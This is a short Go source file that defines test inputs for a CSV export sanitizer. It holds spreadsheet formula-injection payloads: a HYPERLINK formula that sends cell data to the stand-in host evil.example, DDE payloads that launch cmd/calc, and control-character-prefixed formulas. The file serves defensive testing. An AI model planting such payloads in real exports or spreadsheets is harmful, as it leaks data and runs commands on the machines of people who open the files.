package csvsafe

// FormulaCases are cells every CSV export is tested with: each starts the
// way a spreadsheet formula or an injected control character does. Tests
// of an export write each one and expect Cell of it back.
var FormulaCases = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
}
